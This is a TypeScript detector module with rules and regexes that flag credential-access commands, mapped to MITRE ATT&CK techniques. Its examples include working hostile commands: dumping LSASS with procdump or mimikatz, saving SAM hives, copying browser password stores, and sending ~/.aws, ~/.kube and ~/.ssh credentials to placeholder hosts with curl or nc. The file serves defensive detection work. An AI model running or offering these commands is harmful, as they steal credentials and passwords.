import { normPath, operands, type Cmd, type CommandRule, type Env, type Stage } from '../model.js';

export const CREDENTIAL_ACCESS_RULES: CommandRule[] = [
  {
    id: 'commands.credential-access.shadow-file',
    family: 'credential-access',
    severity: 'high',
    score: 0.8,
    attack: 'T1003.008',
    description: 'Password hashes read or copied from /etc/shadow (or gshadow, master.passwd)',
    examples: {
      tp: ['sudo cat /etc/shadow', 'unshadow /etc/passwd /etc/shadow > hashes.txt', 'cp /etc/shadow /tmp/.s && nc 203.0.113.4 9000 < /tmp/.s'],
      fp: ['ls -l /etc/shadow', 'sudo chmod 640 /etc/shadow', 'The /etc/shadow file stores password hashes.'],
    },
  },
  {
    id: 'commands.credential-access.sam-hive',
    family: 'credential-access',
    severity: 'critical',
    score: 0.9,
    attack: 'T1003.002',
    description: 'SAM/SYSTEM/SECURITY hives or NTDS.dit copied for offline hash extraction',
    examples: {
      tp: ['reg save HKLM\\SAM C:\\Temp\\sam.save', 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp\\ntds" q q', 'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\Temp\\SAM'],
      fp: ['reg query HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip', 'reg save HKCU\\Software\\MyApp myapp.hiv', 'reg export HKCU\\Software\\MyApp backup.reg'],
    },
  },
  {
    id: 'commands.credential-access.lsass-dump',
    family: 'credential-access',
    severity: 'critical',
    score: 0.92,
    attack: 'T1003.001',
    description: 'LSASS memory dumped or read for credentials (procdump, comsvcs MiniDump, mimikatz)',
    examples: {
      tp: ['procdump.exe -accepteula -ma lsass.exe C:\\Temp\\l.dmp', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full', 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
      fp: ['procdump -ma w3wp.exe', 'tasklist /fi "imagename eq lsass.exe"', 'Mimikatz is a well-known credential dumping tool.'],
    },
  },
  {
    id: 'commands.credential-access.browser-store',
    family: 'credential-access',
    severity: 'high',
    score: 0.8,
    attack: 'T1555.003',
    description: 'Browser password or cookie stores copied or queried (Login Data, logins.json, key4.db)',
    examples: {
      tp: ['cp ~/.mozilla/firefox/*.default-release/{logins.json,key4.db} /tmp/ff/', 'copy "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data" C:\\Temp\\ld', 'sqlite3 "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" "SELECT origin_url, username_value FROM logins"'],
      fp: ['ls ~/.mozilla/firefox/', 'Firefox keeps saved logins in logins.json and key4.db.', 'cp config.json backup.json'],
    },
  },
  {
    id: 'commands.credential-access.credential-file-exfil',
    family: 'credential-access',
    severity: 'high',
    score: 0.85,
    attack: 'T1552.001',
    description: 'Cloud, Kubernetes or SSH credential files sent over the network',
    examples: {
      tp: ['curl -X POST -F "f=@$HOME/.aws/credentials" https://203.0.113.9/u', 'cat ~/.kube/config | base64 | curl -d @- http://x.example.net/c', 'tar czf - ~/.ssh ~/.config/gcloud | nc 198.51.100.3 9001'],
      fp: ['cat ~/.aws/credentials', 'aws configure list', 'kubectl --kubeconfig ~/.kube/config get pods'],
    },
  },
];

const SHADOW = new Set(['/etc/shadow', '/etc/gshadow', '/etc/master.passwd', '/etc/security/opasswd', '/etc/shadow-', '/etc/gshadow-']);
const READERS = new Set(['cat', 'less', 'more', 'head', 'tail', 'cp', 'scp', 'rsync', 'base64', 'xxd', 'od', 'hexdump', 'strings', 'tar', 'zip', 'gzip', 'bzip2', '7z', 'sort', 'tac', 'nl', 'grep', 'egrep', 'awk', 'cut', 'dd', 'curl', 'nc', 'ncat', 'unshadow', 'john', 'hashcat', 'mv', 'vi', 'vim', 'view', 'nano', 'python', 'python3', 'openssl', 'gpg', 'sed', 'tee', 'paste', 'column']);
const HIVE = /^(?:hklm|hkey_local_machine)\\(?:sam|system|security)\\?$/;
const HIVE_FILE = /\\config\\(?:sam|system|security)\b|ntds\.dit/;
const BROWSER_STORE = /login data|logins\.json|key[34]\.db|signons\.sqlite|cookies\.sqlite|\/cookies$|\\network\\cookies|\\cookies$|local state/;
const CHROMIUM = /chrome|edge|brave|chromium/;
const CRED_FILE = /(?:^|\/)(?:\.aws\/credentials|\.aws\/?$|\.config\/gcloud(?:\/|$)|\.azure(?:\/|$)|\.kube\/config$|\.kube\/?$|\.ssh\/id_(?:rsa|dsa|ecdsa|ed25519)$|\.ssh\/?$|\.netrc$|\.git-credentials$|\.docker\/config\.json$|\.npmrc$|\.pypirc$|\.vault-token$)|^\/var\/run\/secrets\/kubernetes\.io\//;
export const SENDERS = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'ssh', 'scp', 'sftp', 'rsync', 'mail', 'mailx', 'sendmail', 'mutt', 'ftp', 'openssl', 'invoke-webrequest', 'invoke-restmethod', 'iwr', 'irm']);
const CRED_READERS = new Set(['cat', 'base64', 'tar', 'zip', 'gzip', 'xxd', 'openssl', 'gpg', 'cp', 'head', 'tail', 'type', 'get-content', 'gc', 'printenv', 'env', 'strings']);
const ENV_DUMP = new Set(['env', 'printenv', 'set']);
const LIST_ONLY = new Set(['ls', 'dir', 'stat', 'file', 'echo', 'test', '[', 'chmod', 'chown', 'mkdir', 'touch', 'rm', 'get-childitem', 'gci']);

function shadowFile(c: Cmd, env: Env): void {
  if (!READERS.has(c.name)) return;
  const hit = c.args.find((a) => SHADOW.has(stripAt(a))) ?? c.redirs.find((r) => r.op === '<' && r.target && SHADOW.has(env.expand(r.target.value)))?.target?.value;
  if (hit) env.report('commands.credential-access.shadow-file', c, `${c.name} reads ${stripAt(hit)}`);
}

/** A path argument normalised: `if=` (dd) and `x@` (curl -F f=@path) prefixes dropped. */
export function stripAt(a: string): string {
  const v = a.startsWith('if=') ? a.slice(3) : a;
  const at = v.lastIndexOf('@');
  return normPath(at >= 0 ? v.slice(at + 1) : v);
}

function samHive(c: Cmd, env: Env): void {
  if (c.name === 'reg' && (c.lower[0] === 'save' || c.lower[0] === 'export') && HIVE.test(c.win[1] ?? '')) {
    const hive = (c.win[1] ?? '').split('\\')[1] ?? '';
    env.report('commands.credential-access.sam-hive', c, `reg ${c.lower[0]} of the ${hive.toUpperCase()} hive`, hive === 'security' ? { attack: 'T1003.004' } : {});
    return;
  }
  if (c.name === 'ntdsutil' && c.lower.some((a) => a.includes('ifm'))) {
    env.report('commands.credential-access.sam-hive', c, 'ntdsutil creates an install-from-media copy of NTDS.dit', { attack: 'T1003.003' });
    return;
  }
  if (c.name === 'secretsdump' || c.name === 'secretsdump.py' || c.name === 'impacket-secretsdump') {
    env.report('commands.credential-access.sam-hive', c, 'impacket secretsdump extracts hashes', { attack: 'T1003' });
    return;
  }
  if (c.name === 'copy' || c.name === 'cp' || c.name === 'esentutl' || c.name === 'xcopy' || c.name === 'robocopy' || c.name === 'copy-item') {
    const f = c.win.find((a) => HIVE_FILE.test(a));
    if (f) env.report('commands.credential-access.sam-hive', c, `${c.name} copies ${f.includes('ntds') ? 'NTDS.dit' : 'a registry hive file'}`, f.includes('ntds') ? { attack: 'T1003.003' } : {});
  }
}

function lsass(c: Cmd, env: Env): void {
  const n = c.name;
  if ((n === 'procdump' || n === 'procdump64') && c.lower.some((a) => a.startsWith('lsass'))) {
    env.report('commands.credential-access.lsass-dump', c, 'procdump of the LSASS process');
  } else if (c.lower.some((a) => a.includes('comsvcs')) && c.lower.some((a) => a.includes('minidump'))) {
    env.report('commands.credential-access.lsass-dump', c, 'comsvcs.dll MiniDump of a process (LSASS dumping)');
  } else if (n === 'mimikatz' && c.lower.some((a) => a.includes('::'))) {
    env.report('commands.credential-access.lsass-dump', c, 'mimikatz with credential modules');
  } else if (n.startsWith('sekurlsa::') || n.startsWith('lsadump::')) {
    env.report('commands.credential-access.lsass-dump', c, `mimikatz ${n.split('::')[0]} module`);
  } else if (n === 'invoke-mimikatz' || n === 'out-minidump' || (n === 'pypykatz' && c.lower.includes('lsa')) || n === 'nanodump') {
    env.report('commands.credential-access.lsass-dump', c, `${n} dumps credentials from LSASS`);
  }
}

function browserStore(c: Cmd, env: Env): void {
  if (LIST_ONLY.has(c.name) || c.name === '') return;
  const hit = c.lower.find((a) => BROWSER_STORE.test(a) && (!a.includes('local state') || CHROMIUM.test(a)));
  if (hit) env.report('commands.credential-access.browser-store', c, `${c.name} accesses a browser credential store`, hit.includes('cookies') ? { attack: 'T1539' } : {});
}

function isCred(a: string): boolean {
  return CRED_FILE.test(stripAt(a));
}

/** The sender itself uploads a credential file (curl -F @f, -T f, nc < f, scp f host:). */
function senderUploads(c: Cmd, env: Env): string | undefined {
  if (c.name === 'curl') {
    for (let i = 0; i < c.args.length; i++) {
      const a = c.args[i]!;
      if (a.includes('@') && isCred(a)) return stripAt(a);
      if ((a === '-T' || a === '--upload-file') && c.args[i + 1] && isCred(c.args[i + 1]!)) return c.args[i + 1];
    }
  } else if (c.name === 'wget') {
    const p = c.args.find((a) => a.startsWith('--post-file=') || a.startsWith('--body-file='));
    if (p && isCred(p.slice(p.indexOf('=') + 1))) return p.slice(p.indexOf('=') + 1);
  } else if (c.name === 'scp' || c.name === 'rsync' || c.name === 'sftp') {
    const ops = operands(c, 'PiFoSlc');
    const remote = ops.findIndex((o) => /^[\w.@-]{1,128}:/.test(o) && !/^[a-z]:\\/i.test(o));
    const cred = ops.findIndex((o) => isCred(o));
    if (remote > cred && cred >= 0) return ops[cred];
  } else if (c.name === 'invoke-webrequest' || c.name === 'invoke-restmethod' || c.name === 'iwr' || c.name === 'irm') {
    const i = c.lower.indexOf('-infile');
    if (i >= 0 && c.args[i + 1] && isCred(c.args[i + 1]!)) return c.args[i + 1];
  }
  if (SENDERS.has(c.name)) for (const r of c.redirs) if (r.op === '<' && r.target && isCred(env.expand(r.target.value))) return r.target.value;
  return undefined;
}

function credentialExfil(c: Cmd, env: Env): void {
  if (!SENDERS.has(c.name)) return;
  const file = senderUploads(c, env);
  if (file) {
    env.report('commands.credential-access.credential-file-exfil', c, `${c.name} uploads ${normPath(file)}`);
    return;
  }
  for (const w of c.words) {
    if (!w.subs) continue;
    const reader = env.subCmds(w).find((x) => CRED_READERS.has(x.name) && x.args.some(isCred));
    if (reader) {
      env.report('commands.credential-access.credential-file-exfil', c, `${c.name} sends the output of ${reader.name} on a credential file`);
      return;
    }
  }
}

function exfilPipeline(stages: Stage[], env: Env): void {
  for (let i = 0; i < stages.length - 1; i++) {
    const reader = stages[i]!.cmds.find((x) => (CRED_READERS.has(x.name) && x.args.some(isCred)) || (ENV_DUMP.has(x.name) && x.args.length === 0));
    if (!reader) continue;
    for (let j = i + 1; j < stages.length; j++) {
      const sender = stages[j]!.cmds.find((x) => SENDERS.has(x.name) && !(x.name === 'openssl' && !x.lower.includes('s_client')));
      if (!sender) continue;
      const what = ENV_DUMP.has(reader.name) && !reader.args.some(isCred) ? 'the environment variables' : normPath(reader.args.find(isCred)!);
      env.report('commands.credential-access.credential-file-exfil', { start: stages[i]!.start, end: stages[j]!.end }, `${reader.name} of ${what} piped to ${sender.name}`);
      return;
    }
  }
}

export function credentialCommand(c: Cmd, env: Env): void {
  shadowFile(c, env);
  samHive(c, env);
  lsass(c, env);
  browserStore(c, env);
  credentialExfil(c, env);
}

export function credentialPipeline(stages: Stage[], env: Env): void {
  if (stages.length > 1) exfilPipeline(stages, env);
}

/** Every regex this module ships (checked for ReDoS by the tests). */
export const CREDENTIAL_PATTERNS: readonly RegExp[] = [HIVE, HIVE_FILE, BROWSER_STORE, CHROMIUM, CRED_FILE, /^[\w.@-]{1,128}:/, /^[a-z]:\\/i];
